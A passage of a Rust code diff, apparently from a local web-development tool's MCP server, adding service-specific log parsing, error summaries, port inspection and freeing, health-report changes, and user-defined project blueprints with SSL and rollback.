+        // Structured JSON lines: {"t":...,"s":"E",...}
+        "mongodb" => {
+            if line.contains("\"s\":\"E\"") || line.contains("\"s\":\"F\"") {
+                LogSeverity::Error
+            } else if line.contains("\"s\":\"W\"") {
+                LogSeverity::Warning
+            } else {
+                LogSeverity::Info
+            }
+        }
+        _ => {
+            let lower = line.to_lowercase();
+            if lower.contains("error") || lower.contains("fatal") ||
+                lower.contains("crit") || lower.contains("emerg") || lower.contains("fail") {
+                LogSeverity::Error
+            } else if lower.contains("warn") {
+                LogSeverity::Warning
+            } else {
+                LogSeverity::Info
+            }
+        }
+    }
+}
+
+/// Bytes read from the end of each log by get_recent_errors.
+const RECENT_ERRORS_TAIL_BYTES: u64 = 128 * 1024;
+/// Lines checked per log when its timestamps can't be parsed.
+const RECENT_ERRORS_FALLBACK_LINES: usize = 20;
+
+/// The last `max_bytes` of a file, starting at a line boundary.
+fn read_log_tail(path: &std::path::Path, max_bytes: u64) -> Result<String, String> {
+    use std::io::{Seek, SeekFrom};
+
+    let mut file = fs::File::open(path)
+        .map_err(|e| format!("Failed to open log: {}", e))?;
+    let len = file.metadata().map(|m| m.len()).unwrap_or(0);
+    let start = len.saturating_sub(max_bytes);
+    file.seek(SeekFrom::Start(start))
+        .map_err(|e| format!("Failed to seek log: {}", e))?;
+    let mut buf = Vec::new();
+    file.read_to_end(&mut buf)
+        .map_err(|e| format!("Failed to read log: {}", e))?;
+
+    // Drop the partial first line when starting mid-file
+    if start > 0 {
+        if let Some(first_newline) = buf.iter().position(|&b| b == b'\n') {
+            buf.drain(..=first_newline);
+        }
+    }
+    Ok(String::from_utf8_lossy(&buf).to_string())
+}
+
+fn local_to_utc(naive: chrono::NaiveDateTime) -> Option<chrono::DateTime<chrono::Utc>> {
+    use chrono::TimeZone;
+    chrono::Local.from_local_datetime(&naive).earliest().map(|dt| dt.with_timezone(&chrono::Utc))
+}
+
+fn parse_naive(text: &str, fmt: &str) -> Option<chrono::NaiveDateTime> {
+    chrono::NaiveDateTime::parse_from_str(text, fmt).ok()
+}
+
+/// Parse the leading timestamp of a log line in the given service format.
+/// Times without an explicit zone are taken as local time.
+fn parse_log_timestamp(format: &str, line: &str) -> Option<chrono::DateTime<chrono::Utc>> {
+    let bracketed = || line.split_once('[').and_then(|(_, rest)| rest.split_once(']')).map(|(inner, _)| inner);
+    // Access logs (nginx/Apache): [01/Jan/2024:12:00:00 +0000]
+    let access_time = || bracketed()
+        .and_then(|t| chrono::DateTime::parse_from_str(t, "%d/%b/%Y:%H:%M:%S %z").ok())
+        .map(|dt| dt.with_timezone(&chrono::Utc));
+    let prefix = |n: usize| line.get(..n).unwrap_or("");
+
+    match format {
+        // 2024/01/01 12:00:00 [error] ...
+        "nginx" => parse_naive(prefix(19), "%Y/%m/%d %H:%M:%S").and_then(local_to_utc).or_else(access_time),
+        // [Mon Jan 01 12:00:00.123456 2024] [core:error] ...
+        "apache" => bracketed()
+            .and_then(|t| parse_naive(t, "%a %b %d %H:%M:%S%.f %Y").or_else(|| parse_naive(t, "%a %b %d %H:%M:%S %Y")))
+            .and_then(local_to_utc)
+            .or_else(access_time),
+        // [01-Jan-2024 12:00:00 UTC] PHP Fatal error: ...
+        "php" => {
+            let inner = bracketed()?;
+            let (stamp, zone) = inner.rsplit_once(' ')?;
+            let naive = parse_naive(stamp, "%d-%b-%Y %H:%M:%S")?;
+            if zone == "UTC" { Some(naive.and_utc()) } else { local_to_utc(naive) }
+        }
+        // 2024-01-01 12:00:00 0 [ERROR] ...
+        "mariadb" => parse_naive(prefix(19), "%Y-%m-%d %H:%M:%S").and_then(local_to_utc),
+        // 1234:M 01 Jan 2024 12:00:00.000 # ...
+        "redis" => {
+            let stamp: Vec<&str> = line.split_whitespace().skip(1).take(4).collect();
+            parse_naive(&stamp.join(" "), "%d %b %Y %H:%M:%S%.f").and_then(local_to_utc)
+        }
+        // 2024-01-01 12:00:00.123 UTC [123] ERROR: ...
+        "postgresql" => {
+            let naive = parse_naive(prefix(19), "%Y-%m-%d %H:%M:%S")?;
+            let zone = line[19..].trim_start_matches(|c: char| c == '.' || c.is_ascii_digit());
+            if zone.starts_with(" UTC") { Some(naive.and_utc()) } else { local_to_utc(naive) }
+        }
+        // {"t":{"$date":"2024-01-01T12:00:00.123+00:00"},"s":"E",...}
+        "mongodb" => {
+            let (_, rest) = line.split_once("\"$date\":\"")?;
+            let (stamp, _) = rest.split_once('"')?;
+            chrono::DateTime::parse_from_rfc3339(stamp).ok().map(|dt| dt.with_timezone(&chrono::Utc))
+        }
+        _ => {
+            let first = line.split_whitespace().next().unwrap_or("");
+            chrono::DateTime::parse_from_rfc3339(first.trim_matches(|c| c == '[' || c == ']'))
+                .ok()
+                .map(|dt| dt.with_timezone(&chrono::Utc))
+                .or_else(|| parse_naive(prefix(19), "%Y-%m-%d %H:%M:%S").and_then(local_to_utc))
+                .or_else(|| parse_naive(prefix(19), "%Y/%m/%d %H:%M:%S").and_then(local_to_utc))
+        }
+    }
+}
+
+fn tool_get_recent_errors(minutes: u64) -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    // A year is plenty; larger values would overflow the cutoff
+    let cutoff = chrono::Utc::now() - chrono::Duration::minutes(minutes.min(525_600) as i64);
+
+    let mut timed: Vec<(chrono::DateTime<chrono::Utc>, Value)> = Vec::new();
+    let mut untimed: Vec<Value> = Vec::new();
+
+    for log in scan_log_files(&bin_dir) {
+        let format = log_format(&log.name);
+        let Ok(tail) = read_log_tail(&log.path, RECENT_ERRORS_TAIL_BYTES) else { continue };
+        let lines: Vec<&str> = tail.lines().collect();
+
+        // Continuation lines (stack traces) inherit the last timestamp seen
+        let mut last_time = None;
+        let mut saw_timestamp = false;
+        for line in &lines {
+            if let Some(time) = parse_log_timestamp(format, line) {
+                last_time = Some(time);
+                saw_timestamp = true;
+            }
+            let Some(time) = last_time else { continue };
+            if time >= cutoff && classify_log_line(format, line) == LogSeverity::Error {
+                timed.push((time, json!({
+                    "time": time.to_rfc3339(),
+                    "source": log.name,
+                    "line": line.trim_end()
+                })));
+            }
+        }
+
+        // No parseable timestamps: report errors among the last few lines instead
+        if !saw_timestamp {
+            let start = lines.len().saturating_sub(RECENT_ERRORS_FALLBACK_LINES);
+            for line in &lines[start..] {
+                if classify_log_line(format, line) == LogSeverity::Error {
+                    untimed.push(json!({
+                        "time": null,
+                        "source": log.name,
+                        "line": line.trim_end()
+                    }));
+                }
+            }
+        }
+    }
 
-    // Check reachability via TCP
-    let port = site.map(|s| s.port).unwrap_or(80);
-    let reachable = std::net::TcpStream::connect_timeout(
-        &format!("127.0.0.1:{}", port).parse().unwrap(),
-        std::time::Duration::from_secs(2),
-    ).is_ok();
-    details.insert("reachable".into(), json!(reachable));
-    if !reachable && nginx_running {
-        issues.push(format!("Site not reachable on port {}", port));
-        suggestions.push("Check nginx config and ensure site is properly configured".into());
-    }
+    timed.sort_by_key(|(time, _)| *time);
+    let errors: Vec<Value> = timed.into_iter().map(|(_, entry)| entry).chain(untimed).collect();
 
-    let status = if issues.is_empty() {
-        "healthy"
-    } else if reachable {
-        "degraded"
-    } else {
-        "down"
-    };
+    Ok(serde_json::to_string_pretty(&json!({
+        "minutes": minutes,
+        "since": cutoff.to_rfc3339(),
+        "count": errors.len(),
+        "errors": errors
+    })).unwrap())
+}
 
-    let result = json!({
-        "domain": domain,
-        "status": status,
-        "issues": issues,
-        "suggestions": suggestions,
-        "details": details
-    });
+/// Bytes read from the end of each log by logs_summary.
+const LOGS_SUMMARY_TAIL_BYTES: u64 = 32 * 1024;
+/// A log written to within this many minutes counts as active.
+const LOGS_SUMMARY_ACTIVE_MINUTES: i64 = 15;
 
-    Ok(serde_json::to_string_pretty(&result).unwrap())
+fn tool_logs_summary() -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    let now = chrono::Utc::now();
+
+    let summary: Vec<Value> = scan_log_files(&bin_dir).iter().map(|log| {
+        let modified: Option<chrono::DateTime<chrono::Utc>> = fs::metadata(&log.path)
+            .and_then(|m| m.modified())
+            .ok()
+            .map(|t| t.into());
+
+        let format = log_format(&log.name);
+        let tail = read_log_tail(&log.path, LOGS_SUMMARY_TAIL_BYTES).unwrap_or_default();
+        let (mut errors, mut warnings) = (0, 0);
+        for line in tail.lines() {
+            match classify_log_line(format, line) {
+                LogSeverity::Error => errors += 1,
+                LogSeverity::Warning => warnings += 1,
+                LogSeverity::Info => {}
+            }
+        }
+
+        json!({
+            "name": log.name,
+            "size": format_size(log.size),
+            "size_bytes": log.size,
+            "modified": modified.map(|t| t.to_rfc3339()),
+            "active": modified.is_some_and(|t| now - t <= chrono::Duration::minutes(LOGS_SUMMARY_ACTIVE_MINUTES)),
+            "tail_lines": tail.lines().count(),
+            "errors": errors,
+            "warnings": warnings
+        })
+    }).collect();
+
+    Ok(serde_json::to_string_pretty(&summary).unwrap())
 }
 
 fn tool_analyze_logs(service: Option<&str>, lines: usize, severity: &str) -> Result<String, String> {
@@ -4604,40 +12361,44 @@ fn tool_analyze_logs(service: Option<&str>, lines: usize, severity: &str) -> Res
         ("[emerg]", "Emergency — service may be unusable."),
     ];
 
-    let mut all_patterns: std::collections::HashMap<String, (usize, String)> = std::collections::HashMap::new();
+    let mut all_patterns: std::collections::HashMap<(String, &str), (usize, String)> = std::collections::HashMap::new();
     let mut total_errors = 0;
     let mut analyzed_logs = Vec::new();
 
     for log in &logs {
+        let format = log_format(&log.name);
         if let Ok(content) = fs::read_to_string(&log.path) {
             let all_lines: Vec<&str> = content.lines().collect();
             let start = if all_lines.len() > lines { all_lines.len() - lines } else { 0 };
             let tail = &all_lines[start..];
 
             let mut log_errors = 0;
+            let mut log_warnings = 0;
             for line in tail {
                 let lower = line.to_lowercase();
 
-                // Filter by severity
-                let is_error = lower.contains("error") || lower.contains("fatal") ||
-                    lower.contains("crit") || lower.contains("emerg") || lower.contains("fail");
-                let is_warning = lower.contains("warn");
+                // Filter by severity, using the source service's own levels
+                let level = classify_log_line(format, line);
+                match level {
+                    LogSeverity::Error => log_errors += 1,
+                    LogSeverity::Warning => log_warnings += 1,
+                    LogSeverity::Info => {}
+                }
 
                 let include = match severity {
                     "all" => true,
-                    "warning" => is_error || is_warning,
-                    _ => is_error, // "error" default
+                    "warning" => level >= LogSeverity::Warning,
+                    _ => level == LogSeverity::Error, // "error" default
                 };
 
                 if !include { continue; }
 
-                log_errors += 1;
                 total_errors += 1;
 
                 // Match known patterns
                 for (pattern, solution) in &known_patterns {
                     if lower.contains(&pattern.to_lowercase()) {
-                        let entry = all_patterns.entry(pattern.to_string())
+                        let entry = all_patterns.entry((pattern.to_string(), format))
                             .or_insert((0, solution.to_string()));
                         entry.0 += 1;
                     }
@@ -4646,8 +12407,10 @@ fn tool_analyze_logs(service: Option<&str>, lines: usize, severity: &str) -> Res
 
             analyzed_logs.push(json!({
                 "log": log.name,
+                "format": format,
                 "lines_analyzed": tail.len(),
                 "errors_found": log_errors,
+                "warnings_found": log_warnings,
                 "size": format_size(log.size)
             }));
         }
@@ -4655,8 +12418,9 @@ fn tool_analyze_logs(service: Option<&str>, lines: usize, severity: &str) -> Res
 
     // Sort patterns by frequency
     let mut pattern_list: Vec<Value> = all_patterns.iter()
-        .map(|(pattern, (count, solution))| json!({
+        .map(|((pattern, format), (count, solution))| json!({
             "pattern": pattern,
+            "format": format,
             "count": count,
             "suggestion": solution
         }))
@@ -4682,10 +12446,75 @@ fn tool_analyze_logs(service: Option<&str>, lines: usize, severity: &str) -> Res
 }
 
 fn tool_get_health_report() -> Result<String, String> {
-    let bin_dir = get_bin_dir();
+    Ok(serde_json::to_string_pretty(&compute_health_report(&get_bin_dir())).unwrap())
+}
+
+/// Listeners on `port`, each tagged with the Orbit service it belongs to (if any)
+fn port_listeners_json(port: u16) -> Vec<Value> {
+    let services = scan_services_cached(&get_bin_dir());
+    port_owners(port)
+        .into_iter()
+        .map(|(pid, name)| {
+            let service = services.iter().find(|s| is_service_image(&s.name, &name)).map(|s| s.name.clone());
+            json!({ "pid": pid, "name": name, "orbit_service": service })
+        })
+        .collect()
+}
+
+fn tool_whats_on_port(port: u64) -> Result<String, String> {
+    let port = u16::try_from(port).ok().filter(|p| *p > 0).ok_or("Port must be between 1 and 65535")?;
+    let processes = port_listeners_json(port);
+    Ok(serde_json::to_string_pretty(&json!({
+        "port": port,
+        "in_use": !processes.is_empty() || is_port_in_use(port),
+        "processes": processes
+    })).unwrap())
+}
+
+/// Kill every process listening on `port`. Without `confirm` it only reports
+/// what would be killed, since the owner may be something the user needs.
+fn tool_free_port(port: u64, confirm: bool) -> Result<String, String> {
+    let port = u16::try_from(port).ok().filter(|p| *p > 0).ok_or("Port must be between 1 and 65535")?;
+    let processes = port_listeners_json(port);
+    if processes.is_empty() {
+        let detail = if is_port_in_use(port) { "in use, but its owner could not be determined (try as administrator)" } else { "already free" };
+        return Err(format!("Port {} is {}", port, detail));
+    }
+    if !confirm {
+        return Ok(serde_json::to_string_pretty(&json!({
+            "port": port,
+            "freed": false,
+            "would_kill": processes,
+            "hint": "Nothing was killed. Call again with confirm=true to terminate these processes; prefer stop_service for Orbit services."
+        })).unwrap());
+    }
+
+    let mut results = Vec::new();
+    for process in processes {
+        let pid = process["pid"].as_u64().unwrap_or(0) as u32;
+        // Never take down the system or this server
+        let killed = pid > 4 && pid != std::process::id() && kill_pid(pid);
+        if let (true, Some(service)) = (killed, process["orbit_service"].as_str()) {
+            forget_session_entry(service);
+        }
+        results.push(json!({ "pid": pid, "name": process["name"], "killed": killed }));
+    }
+
+    Ok(serde_json::to_string_pretty(&json!({
+        "port": port,
+        "freed": !is_port_in_use(port),
+        "processes": results
+    })).unwrap())
+}
+
+// ─── Health Report (shared with cli.rs) ──────────────────────────
+
+/// Score (0–100) the environment: service state, port conflicts, oversized
+/// logs, broken sites and key services that are installed but stopped.
+fn compute_health_report(bin_dir: &PathBuf) -> Value {
     let data_dir = get_orbit_data_dir();
-    let services = scan_services(&bin_dir);
-    let logs = scan_log_files(&bin_dir);
+    let services = scan_server_services(bin_dir);
+    let logs = scan_log_files(bin_dir);
     let store = read_sites_store().unwrap_or(SiteStore { version: "1".into(), sites: vec![] });
 
     let mut score: i32 = 100;
@@ -4724,7 +12553,7 @@ fn tool_get_health_report() -> Result<String, String> {
     }
 
     // Disk usage for bin/ and data/
-    let bin_size = dir_size(&bin_dir);
+    let bin_size = dir_size(bin_dir);
     let data_size = dir_size(&data_dir.join("data"));
 
     // Large log files (>100MB)
@@ -4740,6 +12569,18 @@ fn tool_get_health_report() -> Result<String, String> {
         }
     }
 
+    // MongoDB storage on disk (>1GB is unusual for a local dev database)
+    let mongo_dir = bin_dir.join("data").join("mongodb");
+    let mut mongo_size = None;
+    if mongo_dir.exists() {
+        let bytes = dir_size(&mongo_dir);
+        if bytes > 1024 * 1024 * 1024 {
+            score -= 5;
+            issues.push(format!("MongoDB data is large ({})", format_size(bytes)));
+        }
+        mongo_size = Some(format_size(bytes));
+    }
+
     // Site health
     let mut site_issues_list = Vec::new();
     for site in &store.sites {
@@ -4777,14 +12618,15 @@ fn tool_get_health_report() -> Result<String, String> {
     // Clamp score
     if score < 0 { score = 0; }
 
-    let result = json!({
+    json!({
         "score": score,
         "status": if score >= 80 { "good" } else if score >= 50 { "fair" } else { "poor" },
         "services": service_list,
         "port_conflicts": port_conflicts,
         "disk_usage": {
             "bin_directory": format_size(bin_size),
-            "data_directory": format_size(data_size)
+            "data_directory": format_size(data_size),
+            "mongodb": mongo_size
         },
         "large_logs": large_logs,
         "site_issues": site_issues_list,
@@ -4792,9 +12634,7 @@ fn tool_get_health_report() -> Result<String, String> {
         "sites_count": store.sites.len(),
         "services_count": services.len(),
         "services_running": services.iter().filter(|s| is_service_running(&s.name)).count()
-    });
-
-    Ok(serde_json::to_string_pretty(&result).unwrap())
+    })
 }
 
 fn dir_size(path: &std::path::Path) -> u64 {
@@ -4815,8 +12655,30 @@ fn dir_size(path: &std::path::Path) -> u64 {
 
 // ─── Blueprint System Tools ─────────────────────────────────────
 
-#[derive(Clone)]
+/// A project recipe for create_from_blueprint. Built-ins are compiled in;
+/// users add or override them with config/blueprints/<name>.json files.
+#[derive(Clone, Deserialize)]
 struct Blueprint {
+    name: String,
+    #[serde(default)]
+    description: String,
+    #[serde(default)]
+    services: Vec<String>,
+    template: String,
+    #[serde(default)]
+    scaffold: Vec<String>,
+    #[serde(default)]
+    php_extensions: Vec<String>,
+    #[serde(default)]
+    env_template: Option<String>,
+    #[serde(default)]
+    dev_command: Option<String>,
+    /// "builtin", or the file a user blueprint came from
+    #[serde(skip)]
+    source: String,
+}
+
+struct BuiltinBlueprint {
     name: &'static str,
     description: &'static str,
     services: &'static [&'static str],
@@ -4827,9 +12689,99 @@ struct Blueprint {
     dev_command: Option<&'static str>,
 }
 
+impl From<BuiltinBlueprint> for Blueprint {
+    fn from(bp: BuiltinBlueprint) -> Self {
+        let owned = |list: &[&str]| list.iter().map(|s| s.to_string()).collect();
+        Blueprint {
+            name: bp.name.to_string(),
+            description: bp.description.to_string(),
+            services: owned(bp.services),
+            template: bp.template.to_string(),
+            scaffold: owned(bp.scaffold),
+            php_extensions: owned(bp.php_extensions),
+            env_template: bp.env_template.map(String::from),
+            dev_command: bp.dev_command.map(String::from),
+            source: "builtin".to_string(),
+        }
+    }
+}
+
+/// Registry bundled with Orbit; blueprint services must be among its services
+const BUNDLED_REGISTRY: &str = include_str!("../dist/libraries.json");
+
+fn get_blueprints_dir() -> PathBuf {
+    get_config_dir().join("blueprints")
+}
+
+/// Check a user blueprint before it joins the built-ins.
+fn validate_blueprint(bp: &Blueprint, registry_services: &[String]) -> Result<(), String> {
+    if bp.name.is_empty() || !bp.name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_') {
+        return Err("name must be letters, digits, '-' or '_'".to_string());
+    }
+    let template = bp.template.as_str();
+    if !matches!(template, "static" | "php" | "laravel" | "wordpress") && proxy_dev_port(Some(template)).is_none() {
+        return Err(format!("unknown template '{}'", template));
+    }
+    if let Some(unknown) = bp.services.iter().find(|s| !registry_services.contains(s)) {
+        return Err(format!("unknown service '{}' (not in the Orbit registry)", unknown));
+    }
+    Ok(())
+}
+
+/// Blueprints from `dir/*.json`, one per file. Invalid files are skipped
+/// and reported as (file, reason).
+fn load_user_blueprints(dir: &std::path::Path) -> (Vec<Blueprint>, Vec<(String, String)>) {
+    let registry_services: Vec<String> = serde_json::from_str::<Value>(BUNDLED_REGISTRY)
+        .ok()
+        .and_then(|registry| registry["services"].as_object().map(|s| s.keys().cloned().collect()))
+        .unwrap_or_default();
+
+    let mut files: Vec<PathBuf> = fs::read_dir(dir)
+        .map(|entries| entries.flatten().map(|e| e.path()).filter(|p| p.extension().is_some_and(|e| e == "json")).collect())
+        .unwrap_or_default();
+    files.sort();
+
+    let (mut blueprints, mut skipped) = (Vec::new(), Vec::new());
+    for file in files {
+        let file_name = file.file_name().unwrap_or_default().to_string_lossy().to_string();
+        let parsed = fs::read_to_string(&file)
+            .map_err(|e| e.to_string())
+            .and_then(|content| serde_json::from_str::<Blueprint>(&content).map_err(|e| e.to_string()))
+            .and_then(|bp| validate_blueprint(&bp, &registry_services).map(|_| bp));
+        match parsed {
+            Ok(mut bp) => {
+                bp.source = file.display().to_string();
+                blueprints.push(bp);
+            }
+            Err(e) => skipped.push((file_name, e)),
+        }
+    }
+    (blueprints, skipped)
+}
+
+/// Built-in blueprints with user ones from config/blueprints merged in; a
+/// user file replaces the built-in of the same name.
 fn get_blueprints() -> Vec<Blueprint> {
+    let (user, skipped) = load_user_blueprints(&get_blueprints_dir());
+    for (file, reason) in &skipped {
+        eprintln!("[orbit-mcp] Skipping blueprint {}: {}", file, reason);
+    }
+    merge_blueprints(builtin_blueprints().into_iter().map(Blueprint::from).collect(), user)
+}
+
+fn merge_blueprints(mut blueprints: Vec<Blueprint>, user: Vec<Blueprint>) -> Vec<Blueprint> {
+    for bp in user {
+        match blueprints.iter_mut().find(|b| b.name == bp.name) {
+            Some(existing) => *existing = bp,
+            None => blueprints.push(bp),
+        }
+    }
+    blueprints
+}
+
+fn builtin_blueprints() -> Vec<BuiltinBlueprint> {
     vec![
-        Blueprint {
+        BuiltinBlueprint {
             name: "laravel-vite",
             description: "Laravel with Vite frontend bundler, MariaDB, and Redis",
             services: &["nginx", "php", "mariadb", "redis"],
@@ -4839,7 +12791,7 @@ fn get_blueprints() -> Vec<Blueprint> {
             env_template: Some("APP_NAME={{domain}}\nAPP_URL=http://{{domain}}\nDB_CONNECTION=mysql\nDB_HOST=127.0.0.1\nDB_PORT=3306\nDB_DATABASE={{db_name}}\nDB_USERNAME=root\nDB_PASSWORD=root\nCACHE_DRIVER=redis\nSESSION_DRIVER=redis\nREDIS_HOST=127.0.0.1\n"),
             dev_command: Some("npm run dev"),
         },
-        Blueprint {
+        BuiltinBlueprint {
             name: "wordpress-woocommerce",
             description: "WordPress with WooCommerce-ready configuration",
             services: &["nginx", "php", "mariadb"],
@@ -4849,7 +12801,7 @@ fn get_blueprints() -> Vec<Blueprint> {
             env_template: None,
             dev_command: None, // WordPress runs via PHP-FPM, no app process needed
         },
-        Blueprint {
+        BuiltinBlueprint {
             name: "nextjs-fullstack",
             description: "Next.js full-stack application with nginx reverse proxy",
             services: &["nginx", "nodejs"],
@@ -4859,7 +12811,7 @@ fn get_blueprints() -> Vec<Blueprint> {
             env_template: None,
             dev_command: Some("npm run dev"),
         },
-        Blueprint {
+        BuiltinBlueprint {
             name: "astro-static",
             description: "Astro static site generator",
             services: &["nginx"],
@@ -4869,7 +12821,7 @@ fn get_blueprints() -> Vec<Blueprint> {
             env_template: None,
             dev_command: Some("npm run dev"),
         },
-        Blueprint {
+        BuiltinBlueprint {
             name: "django",
             description: "Django web framework with nginx reverse proxy",
             services: &["nginx", "python"],
@@ -4879,7 +12831,7 @@ fn get_blueprints() -> Vec<Blueprint> {
             env_template: Some("DEBUG=True\nSECRET_KEY=change-me\nALLOWED_HOSTS={{domain}},localhost,127.0.0.1\nDATABASE_URL=sqlite:///db.sqlite3\n"),
             dev_command: Some("python manage.py runserver"),
         },
-        Blueprint {
+        BuiltinBlueprint {
             name: "flask",
             description: "Flask micro web framework with nginx reverse proxy",
             services: &["nginx", "python"],
@@ -4887,9 +12839,9 @@ fn get_blueprints() -> Vec<Blueprint> {
             scaffold: &["pip install flask"],
             php_extensions: &[],
             env_template: Some("FLASK_APP=app.py\nFLASK_ENV=development\nFLASK_DEBUG=1\n"),
-            dev_command: Some("python -m flask run"),
+            dev_command: Some("python -m flask run --port 8000"),
         },
-        Blueprint {
+        BuiltinBlueprint {
             name: "sveltekit",
             description: "SvelteKit application with nginx reverse proxy and WebSocket support",
             services: &["nginx", "nodejs"],
@@ -4899,7 +12851,7 @@ fn get_blueprints() -> Vec<Blueprint> {
             env_template: None,
             dev_command: Some("npm run dev"),
         },
-        Blueprint {
+        BuiltinBlueprint {
             name: "remix",
             description: "Remix full-stack web framework",
             services: &["nginx", "nodejs"],
@@ -4918,7 +12870,8 @@ fn tool_list_blueprints() -> Result<String, String> {
         "name": bp.name,
         "description": bp.description,
         "services": bp.services,
-        "template": bp.template
+        "template": bp.template,
+        "source": bp.source
     })).collect();
 
     Ok(serde_json::to_string_pretty(&result).unwrap())
@@ -4941,22 +12894,58 @@ fn tool_get_blueprint(name: &str) -> Result<String, String> {
                 "template": bp.template,
                 "scaffold_commands": bp.scaffold,
                 "php_extensions": bp.php_extensions,
-                "has_env_template": bp.env_template.is_some()
+                "has_env_template": bp.env_template.is_some(),
+                "dev_command": bp.dev_command,
+                "source": bp.source
             });
             Ok(serde_json::to_string_pretty(&result).unwrap())
         }
         None => {
-            let available: Vec<&str> = blueprints.iter().map(|b| b.name).collect();
+            let available: Vec<&str> = blueprints.iter().map(|b| b.name.as_str()).collect();
             Err(format!("Blueprint '{}' not found. Available: {}", name, available.join(", ")))
         }
     }
 }
 
+/// Fill a blueprint's .env template. `{{scheme}}` becomes http or https, and
+/// hard-coded `http://{{domain}}` URLs (e.g. APP_URL) follow the SSL setting.
+fn render_env_template(template: &str, domain: &str, ssl: bool) -> String {
+    let scheme = if ssl { "https" } else { "http" };
+    let db_name = domain.replace('.', "_").replace('-', "_");
+    template
+        .replace("http://{{domain}}", "{{scheme}}://{{domain}}")
+        .replace("{{scheme}}", scheme)
+        .replace("{{domain}}", domain)
+        .replace("{{db_name}}", &db_name)
+}
+
+/// Undo what a failed create_from_blueprint made: the site (sites.json row,
+/// nginx config and hosts entries) and the project directory if it was new.
+/// Returns the cleanup steps that ran.
+fn rollback_blueprint_project(domain: &str, created_site: bool, created_dir: Option<&std::path::Path>) -> Vec<String> {
+    let mut cleanup = Vec::new();
+    if created_site {
+        match tool_delete_site(domain, false) {
+            Ok(_) => cleanup.push(format!("Deleted site {} (sites.json, nginx config, hosts entry)", domain)),
+            Err(e) => cleanup.push(format!("Failed to delete site {}: {}", domain, e)),
+        }
+    }
+    if let Some(dir) = created_dir {
+        match fs::remove_dir_all(dir) {
+            Ok(()) => cleanup.push(format!("Removed directory: {}", dir.display())),
+            Err(e) => cleanup.push(format!("Failed to remove directory {}: {}", dir.display(), e)),
+        }
+    }
+    cleanup
+}
+
 fn tool_create_from_blueprint(
     blueprint_name: &str,
     domain: &str,
     path: &str,
     php_version: Option<&str>,
+    ssl: bool,
+    rollback: bool,
 ) -> Result<String, String> {
     if blueprint_name.is_empty() || domain.is_empty() || path.is_empty() {
         return Err("Blueprint, domain, and path are required".to_string());
@@ -4965,7 +12954,7 @@ fn tool_create_from_blueprint(
     let blueprints = get_blueprints();
     let bp = blueprints.iter().find(|b| b.name == blueprint_name)
         .ok_or_else(|| {
-            let available: Vec<&str> = blueprints.iter().map(|b| b.name).collect();
+            let available: Vec<&str> = blueprints.iter().map(|b| b.name.as_str()).collect();
             format!("Blueprint '{}' not found. Available: {}", blueprint_name, available.join(", "))
         })?;
 
@@ -4974,10 +12963,13 @@ fn tool_create_from_blueprint(
     let php_ver = php_version.unwrap_or("8.4");
     let mut steps: Vec<String> = Vec::new();
     let mut warnings: Vec<String> = Vec::new();
+    // Hard failures (site creation, scaffold commands); with `rollback` the
+    // first one undoes everything this call created
+    let mut failures: Vec<String> = Vec::new();
 
     // Step 1: Verify required services are installed
-    for required in bp.services {
-        let resolved = if *required == "php" {
+    for required in &bp.services {
+        let resolved = if required == "php" {
             format!("php-{}", php_ver)
         } else {
             required.to_string()
@@ -4997,8 +12989,8 @@ fn tool_create_from_blueprint(
     steps.push("Verified all required services are installed".into());
 
     // Step 2: Start services that aren't running
-    for required in bp.services {
-        let resolved = if *required == "php" {
+    for required in &bp.services {
+        let resolved = if required == "php" {
             format!("php-{}", php_ver)
         } else {
             required.to_string()
@@ -5030,15 +13022,15 @@ fn tool_create_from_blueprint(
             if let Ok(content) = fs::read_to_string(&ini_path) {
                 let mut new_content = content.clone();
                 let mut enabled_exts = Vec::new();
-                for ext in bp.php_extensions {
+                for ext in &bp.php_extensions {
                     let disabled = format!(";extension={}", ext);
                     let enabled = format!("extension={}", ext);
                     if new_content.contains(&disabled) {
                         new_content = new_content.replace(&disabled, &enabled);
-                        enabled_exts.push(*ext);
+                        enabled_exts.push(ext.as_str());
                     } else if !new_content.contains(&enabled) {
                         new_content = format!("{}\n{}\n", new_content.trim_end(), enabled);
-                        enabled_exts.push(*ext);
+                        enabled_exts.push(ext.as_str());
                     }
                 }
                 if !enabled_exts.is_empty() {
@@ -5052,27 +13044,55 @@ fn tool_create_from_blueprint(
 
     // Step 4: Create project directory
     let project_path = std::path::Path::new(path);
-    if !project_path.exists() {
+    let created_dir = !project_path.exists();
+    if created_dir {
         fs::create_dir_all(project_path)
             .map_err(|e| format!("Failed to create project directory: {}", e))?;
         steps.push(format!("Created directory: {}", path));
     }
 
     // Step 5: Create site
-    let site_result = tool_create_site(domain, path, Some(bp.template), Some(php_ver), false);
+    let site_existed = read_sites_store()
+        .map(|store| store.sites.iter().any(|s| s.domain == domain))
+        .unwrap_or(false);
+    let site_result = tool_create_site(domain, &[], path, CreateSiteOptions {
+        template: Some(&bp.template),
+        php_version: Some(php_ver),
+        ssl,
+        ..Default::default()
+    });
     match site_result {
-        Ok(msg) => steps.push(format!("Created site: {}", msg)),
+        Ok(msg) => {
+            steps.push(format!("Created site: {}", msg));
+            // The config written above points at the certificate, so nginx
+            // only accepts it once the cert exists
+            if ssl {
+                match tool_generate_ssl(domain) {
+                    Ok(_) => steps.push(format!("Generated SSL certificate for {}", domain)),
+                    Err(e) => warnings.push(format!("SSL generation failed: {}", e)),
+                }
+                if is_service_running("nginx") {
+                    match nginx_test_and_reload(&bin_dir) {
+                        Ok(()) => steps.push("Reloaded nginx with HTTPS enabled".into()),
+                        Err(e) => warnings.push(format!("nginx reload failed: {}", e)),
+                    }
+                }
+            }
+        }
         Err(e) => {
             if e.contains("already exists") {
                 warnings.push(format!("Site already exists: {}", domain));
             } else {
-                warnings.push(format!("Site creation warning: {}", e));
+                failures.push(format!("Site creation failed: {}", e));
             }
         }
     }
 
     // Step 6: Run scaffold commands
-    for cmd_str in bp.scaffold {
+    for cmd_str in &bp.scaffold {
+        if rollback && !failures.is_empty() {
+            break;
+        }
         let parts: Vec<&str> = cmd_str.split_whitespace().collect();
         if parts.is_empty() { continue; }
 
@@ -5092,16 +13112,15 @@ fn tool_create_from_blueprint(
                         }
                         cmd.arg("--no-interaction");
                         cmd.current_dir(path);
-                        match cmd.output() {
+                        match run_command(&mut cmd, "composer") {
                             Ok(output) => {
-                                if output.status.success() {
+                                if output.success() {
                                     steps.push(format!("Ran: {}", cmd_str));
                                 } else {
-                                    let stderr = String::from_utf8_lossy(&output.stderr);
